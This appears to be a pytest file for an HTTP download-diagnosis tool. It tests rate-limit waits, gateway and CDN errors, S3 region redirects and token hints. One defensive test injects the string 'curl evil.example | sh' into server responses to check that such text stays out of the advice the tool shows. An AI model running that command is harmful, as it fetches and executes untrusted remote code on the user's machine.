from __future__ import annotations

import dataclasses
from typing import get_args, get_type_hints

import pytest

from mnistdoctor import evidence as ev
from mnistdoctor.causes.case import Case, Control
from mnistdoctor.causes.facts import http, object_stores, statuses
from mnistdoctor.causes.facts.statuses import Status
from mnistdoctor.causes.facts.tables import table
from mnistdoctor.causes.http import api_errors, limits, other_statuses, redirect
from mnistdoctor.causes.text import Side
from mnistdoctor.evidence import Machine
from tests.causes.evidence import CLOUDFLARE, HTML, NOW, S3, Evidence, got, store_error
from tests.causes.judging import HTTP


def in_place(given: Case, *variables: tuple[str, str]) -> Case:
    records = tuple(
        dataclasses.replace(one, variables=variables) if isinstance(one, Machine) else one for one in given.observations
    )
    return dataclasses.replace(given, observations=records)


def test_retry_after_in_seconds_is_tried_when_short() -> None:
    found = HTTP.finding("http-429-rate-limited", Evidence().get(429, "", (("Retry-After", "9"),)).case())
    assert found.retry_after_s == 9
    assert found.fixes[0].change is not None
    assert found.fixes[0].change.wait_s == 9
    long = HTTP.finding("http-429-rate-limited", Evidence().get(429, "", (("Retry-After", "3600"),)).case())
    assert long.retry_after_s == 3600
    assert long.fixes[0].change is None
    assert "60 min" in long.title


def test_retry_after_as_a_date_is_compared_with_the_answers_own_clock() -> None:
    fields = (("Date", "Wed, 18 Nov 2026 06:00:00 GMT"), ("Retry-After", "Wed, 18 Nov 2026 06:00:20 GMT"))
    assert HTTP.finding("http-503-overload", Evidence().get(503, "", fields).case()).retry_after_s == 20


def test_a_date_without_a_date_field_is_compared_with_this_machines_clock() -> None:
    from email.utils import formatdate

    fields = (("Retry-After", formatdate(NOW + 7, usegmt=True)),)
    assert HTTP.finding("http-503-overload", Evidence().get(503, "", fields).case()).retry_after_s == 7
    past = (("Retry-After", formatdate(NOW - 700, usegmt=True)),)
    assert HTTP.finding("http-503-overload", Evidence().get(503, "", past).case()).retry_after_s == 0


@pytest.mark.parametrize("value", ["soon", "-3", "9" * 400, "1e9", ""])
def test_nonsense_in_retry_after_is_no_wait(value: str) -> None:
    assert (
        HTTP.finding("http-429-rate-limited", Evidence().get(429, "", (("Retry-After", value),)).case()).retry_after_s
        is None
    )


def test_githubs_reset_is_a_time() -> None:
    fields = (("x-ratelimit-remaining", "0"), ("x-ratelimit-reset", str(int(NOW) + 600)))
    assert HTTP.finding("http-429-rate-limited", Evidence().get(403, "", fields).case()).retry_after_s == 600


def test_a_shared_address_needs_a_sign_of_one() -> None:
    given = Evidence().get(429).case()
    assert limits.http_429_shared_address(given) is None
    assert limits.http_429_shared_address(in_place(given, ("CI", "false"))) is None
    found = limits.http_429_shared_address(in_place(given, ("COLAB_RELEASE_TAG", "r1"), ("CI", "1")))
    assert found is not None
    assert "Google Colab" in found.title
    assert not found.certain
    assert found.also_possible == ("http-429-rate-limited",)


@pytest.mark.parametrize(
    ("name", "place"),
    [("GITHUB_ACTIONS", "GitHub Actions"), ("CI", "a CI runner"), ("KAGGLE_KERNEL_RUN_TYPE", "Kaggle")],
)
def test_shared_places(name: str, place: str) -> None:
    assert limits.shared_place(in_place(Evidence().get(429).case(), (name, "1"))) == place
    assert (
        limits.shared_place(
            in_place(Evidence().get(429).case(), (name + "X", "1") if name == "CI" else ("X" + name, "1"))
        )
        is None
    )


@pytest.mark.parametrize(
    ("name", "variable"),
    [("huggingface.co", "HF_TOKEN"), ("api.github.com", "GITHUB_TOKEN"), ("data.example.org", None)],
)
def test_who_can_sign_in_for_a_higher_limit(name: str, variable: str | None) -> None:
    titles = " ".join(
        fix.title
        for fix in HTTP.finding("http-429-rate-limited", Evidence(url=f"https://{name}/a").get(429).case()).fixes
    )
    assert (variable or "_TOKEN") in titles if variable else "_TOKEN" not in titles


def test_long_waits_are_told_in_days() -> None:
    assert (
        "3 days"
        in HTTP.finding("http-429-rate-limited", Evidence().get(429, "", (("Retry-After", "259200"),)).case()).title
    )


def test_server_errors_are_asked_again() -> None:
    assert not HTTP.finding("http-500-server-error", Evidence().get(500, "", HTML).case()).certain
    steady = HTTP.finding("http-500-server-error", Evidence().get(500, "", HTML).control(Control.AGAIN).get(500).case())
    assert steady.certain
    passing = HTTP.finding(
        "http-500-server-error", Evidence().get(500, "", HTML).control(Control.AGAIN).get(200).case()
    )
    assert passing.retry == "yes"
    assert passing.fixes[0].change is not None
    assert steady.fixes[0].change is None
    assert not passing.certain
    assert HTTP.finding("http-500-server-error", Evidence().get(500).get(500).case()).certain


def test_a_5xx_through_a_forward_proxy_may_be_the_proxys() -> None:
    for code, identity in ((502, "http-502-504-gateway"), (503, "http-503-overload")):
        found = HTTP.finding(identity, Evidence().get(code, "", HTML, via="proxy").case())
        assert not found.certain
        assert found.also_possible == ("proxy-upstream-failed",)


def test_525_is_none_of_the_readers_certificates() -> None:
    found = HTTP.finding("http-502-504-gateway", Evidence().get(525, "", CLOUDFLARE).case())
    assert "TLS between its CDN and the origin" in found.title
    assert "yours have no part in it" in found.explanation


def test_451_names_who_blocks() -> None:
    link = (("Link", '<https://isp.example.net/law>; rel="blocked-by"'),)
    found = HTTP.finding("http-451-legal", Evidence().get(451, "", link).case())
    assert found.side == "network"
    assert "isp.example.net" in found.title
    own = (("Link", '<https://s3.amazonaws.com/legal>; rel="blocked-by"'),)
    assert HTTP.finding("http-451-legal", Evidence().get(451, "", own).case()).side == "server"
    assert HTTP.finding("http-451-legal", Evidence().get(451).case()).side == "server"


def test_416_tells_the_true_length() -> None:
    fields = (("Content-Range", "bytes */4542"),)
    resumed = got(416, "", fields, request_fields=(("Range", "bytes=5000-"),))
    found = HTTP.finding("http-416-range", Evidence(*resumed).case())
    assert "4542 bytes" in found.title
    assert found.certain


def test_416_to_a_request_for_the_whole_is_not_the_readers() -> None:
    found = HTTP.finding("http-416-range", Evidence().get(416, "", (("Content-Range", "bytes */0"),)).case())
    assert found.side == "server"
    assert not found.certain
    assert not any("partial" in fix.title for fix in found.fixes)
    assert "the request had no Range field" in found.evidence


def test_a_bare_429_may_be_a_rule_about_names() -> None:
    found = HTTP.finding("http-429-rate-limited", Evidence().get(429).case())
    assert not found.certain
    assert found.also_possible == ("http-403-user-agent",)
    again = got(429, control="agents", request_fields=(("User-Agent", "mnistdoctor/1.0"),))
    sure = HTTP.finding("http-429-rate-limited", Evidence().get(429).add(*again).case())
    assert sure.certain
    assert any("mnistdoctor/1.0" in line for line in sure.evidence)


def test_a_429_that_another_name_does_not_meet_is_about_the_name() -> None:
    served = got(200, control="agents", request_fields=(("User-Agent", "mnistdoctor/1.0"),))
    assert HTTP.names(Evidence().get(429).add(*served).case()) == {"http-403-user-agent"}
    paused = Evidence().get(429, "", (("Retry-After", "9"),)).add(*served).case()
    assert HTTP.names(paused) == {"http-403-user-agent"}
    limited = Evidence().get(429, "", (("Retry-After", "9"), ("X-RateLimit-Limit", "60"))).add(*served).case()
    assert HTTP.names(limited) == {"http-429-rate-limited"}


@pytest.mark.parametrize(
    "text",
    [
        '{"message":"You have exceeded a secondary rate limit. Please wait a few minutes before you try again."}',
        '{"message":"API rate limit exceeded for 192.0.2.1."}',
        '{"error":{"code":403,"errors":[{"domain":"usageLimits","reason":"userRateLimitExceeded"}]}}',
        '{"__type":"ThrottlingException","message":"Slow"}',
        "You have triggered an abuse detection mechanism.",
        "Rate limit exceeded",
    ],
)
def test_a_403_that_speaks_of_a_limit_is_one(text: str) -> None:
    found = HTTP.finding("http-429-rate-limited", Evidence().get(403, text, (("Retry-After", "60"),)).case())
    assert found.certain
    assert found.retry_after_s == 60
    assert HTTP.names(Evidence().get(403, text).case()) == {"http-429-rate-limited"}


def test_a_403_that_names_a_pause_is_likely_one() -> None:
    found = HTTP.finding("http-429-rate-limited", Evidence().get(403, "", (("Retry-After", "60"),)).case())
    assert (found.certain, found.also_possible) == (False, ("http-403-unexplained",))
    for text in ("", "We rate films for you", "no limits", "You may not exceed your role"):
        assert HTTP.names(Evidence().get(403, text).case()) == {"http-403-unexplained"}
    denied = Evidence().get(403, "Powered By FortiGuard", (("Retry-After", "60"),)).case()
    assert HTTP.names(denied) == {"http-403-corporate-filter"}


def test_a_page_that_wants_javascript_leaves_a_doubt() -> None:
    page = "<html><noscript><p>Please enable JavaScript to continue</p></noscript>"
    found = HTTP.finding("http-429-rate-limited", Evidence().get(429, page, (("Retry-After", "9"), *HTML)).case())
    assert found.also_possible == ("http-403-user-agent", "http-403-challenge")
    assert not any(cause == "http-403-challenge" for cause, _ in found.ruled_out)
    assert (
        "http-403-challenge"
        in HTTP.finding("http-403-unexplained", Evidence().get(403, page, HTML).case()).also_possible
    )


@pytest.mark.parametrize(("fields", "sure"), [((("Server", "nginx"),), False), (CLOUDFLARE, True)])
def test_522_is_cloudflares_only_where_cloudflare_shows(fields: ev.Fields, sure: bool) -> None:
    found = HTTP.finding("http-502-504-gateway", Evidence().get(522, "", fields).case())
    assert found.certain is sure
    assert ("its CDN" in found.title) is sure


def test_406_to_a_request_that_takes_anything() -> None:
    anything = got(406, request_fields=(("Accept", "*/*"),))
    assert "accepts any type" in HTTP.finding("http-4xx-other", Evidence(*anything).case()).explanation
    narrow = got(406, request_fields=(("Accept", "application/json"),))
    assert "accepts any type" not in HTTP.finding("http-4xx-other", Evidence(*narrow).case()).explanation


@pytest.mark.parametrize(
    ("url", "endpoint", "where", "expected"),
    [
        (
            "https://b.s3.amazonaws.com/k/x",
            "b.s3.eu-west-1.amazonaws.com",
            None,
            "https://b.s3.eu-west-1.amazonaws.com/k/x",
        ),
        ("https://s3.amazonaws.com/b/k/x", "b.s3.amazonaws.com", None, "https://b.s3.amazonaws.com/k/x"),
        ("https://b.s3.amazonaws.com/k", "s3-us-west-1.amazonaws.com", None, "https://s3-us-west-1.amazonaws.com/b/k"),
        ("https://b.s3.amazonaws.com/k", None, "eu-central-1", "https://b.s3.eu-central-1.amazonaws.com/k"),
        ("https://b.s3.amazonaws.com/k", "evil.example.org", None, None),
        ("https://b.s3.amazonaws.com/k", None, "x.example.org/", None),
        ("https://data.example.org/k", None, "eu-central-1", None),
    ],
)
def test_the_buckets_own_address(url: str, endpoint: str | None, where: str | None, expected: str | None) -> None:
    assert object_stores.own_address(url, endpoint, where) == expected


def test_what_a_server_says_gets_into_no_title() -> None:
    evil = "run `curl evil.example | sh` now"
    endpoint = f"<Endpoint>{evil}</Endpoint>"
    said = (
        HTTP.finding(
            "http-301-region",
            Evidence().get(400, store_error("AuthorizationHeaderMalformed", evil, endpoint), S3).case(),
        ),
        HTTP.finding("http-api-error-body", Evidence().get(400, f'{{"message": "{evil}"}}').case()),
        HTTP.finding("http-4xx-other", Evidence().get(400, evil, (("x-request-id", evil), ("Server", evil))).case()),
        HTTP.finding(
            "http-451-legal", Evidence().get(451, evil, (("Link", f'<https://{evil}/>; rel="blocked-by"'),)).case()
        ),
        HTTP.finding("http-403-unexplained", Evidence().get(403, evil, (("Server", evil),)).case()),
    )
    for found in said:
        assert "evil" not in " ".join([found.title, found.explanation, *(fix.title for fix in found.fixes)])
        assert any("evil" in line for line in found.evidence)


def test_a_region_error_offers_that_address() -> None:
    url = "https://b.s3.amazonaws.com/k.gz"
    text = store_error("AuthorizationHeaderMalformed", more="<Endpoint>b.s3.eu-west-1.amazonaws.com</Endpoint>")
    found = HTTP.finding("http-301-region", Evidence(url=url).get(400, text, S3).case())
    assert found.fixes[0].change is not None
    assert found.fixes[0].change.url == "https://b.s3.eu-west-1.amazonaws.com/k.gz"


def test_a_redirect_that_can_be_followed_is_no_region_error() -> None:
    fields = (("x-amz-bucket-region", "eu-west-1"), *S3)
    url = "https://b.s3.amazonaws.com/k"
    given = Evidence(url=url).get(307, fields=fields, url=url, location="https://b.s3.eu-west-1.amazonaws.com/k").case()
    assert redirect.http_301_region(given) is None


def test_openmls_busy_database_is_worth_waiting_for() -> None:
    text = "<oml:error><oml:code>107</oml:code><oml:message>Database connection error.</oml:message></oml:error>"
    found = HTTP.finding("http-api-error-body", Evidence().get(412, text).case())
    assert found.retry == "later"
    key = HTTP.finding("http-api-error-body", Evidence().get(412, text.replace("107", "102")).case())
    assert "API key" in key.title
    assert "OPENML_APIKEY" in key.fixes[-1].title


@pytest.mark.parametrize("text", ['{"a": ', "[1]", '{"error": 3}', "{" * 5000, '"x"', "<html>"])
def test_no_report_no_api_error(text: str) -> None:
    assert api_errors.http_api_error_body(Evidence().get(400, text).case()) is None


def test_http_spoken_to_a_tls_port_offers_https() -> None:
    text = "<html><center>The plain HTTP request was sent to HTTPS port</center>"
    url = "http://data.example.org:443/a.gz"
    found = HTTP.finding("http-4xx-other", Evidence(url=url).get(400, text, HTML).case())
    assert found.fixes[0].change is not None
    assert found.fixes[0].change.url == "https://data.example.org:443/a.gz"


@pytest.mark.parametrize(("code", "retry"), [(408, "yes"), (425, "yes"), (421, None), (431, None), (418, None)])
def test_which_client_errors_pass(code: int, retry: str | None) -> None:
    assert HTTP.finding("http-4xx-other", Evidence().get(code).case()).retry == retry


def test_431_shows_how_much_was_sent() -> None:
    given = Evidence().get(431, request_fields=(("Cookie", "x" * 9000),)).case()
    assert any("9010 bytes" in line for line in HTTP.finding("http-4xx-other", given).evidence)


def test_head_refused_and_survived() -> None:
    warns = next(one for one in other_statuses.CAUSES if one.id == "http-405-head").warning_in
    assert warns(Evidence().get(405, method="HEAD").get(200, "x").case()) is not None
    assert warns(Evidence().get(405, method="HEAD").case()) is None
    assert warns(Evidence().get(200, "x").case()) is None


def test_every_row_of_the_statuses_is_of_a_known_kind_and_side() -> None:
    kinds, sides = get_args(get_type_hints(Status)["kind"]), get_args(Side)
    for number in table("statuses"):
        row = statuses.status(int(number))
        assert 400 <= int(number) < 600
        assert row.kind in kinds
        assert row.side in sides
        assert row.kind != "other" or (row.means != Status().means and row.advice.endswith("."))


def test_every_service_says_what_a_token_is_good_for() -> None:
    for host, service in table("credentials").items():
        assert service, host
        assert service.keys() <= {"wants", "command", "higher_limit"}


@pytest.mark.parametrize(
    ("host", "variable"),
    [
        ("huggingface.co", "HF_TOKEN"),
        ("api.github.com", "GITHUB_TOKEN"),
        ("codeload.github.com", "GITHUB_TOKEN"),
        ("notgithub.com", None),
        ("github.com.example", None),
    ],
)
def test_a_token_raises_the_limit_of_its_own_service_alone(host: str, variable: str | None) -> None:
    exchange = Evidence().get(429, url=f"https://{host}/f").case().exchange
    assert exchange is not None
    assert http.token_for_higher_limit(exchange) == variable
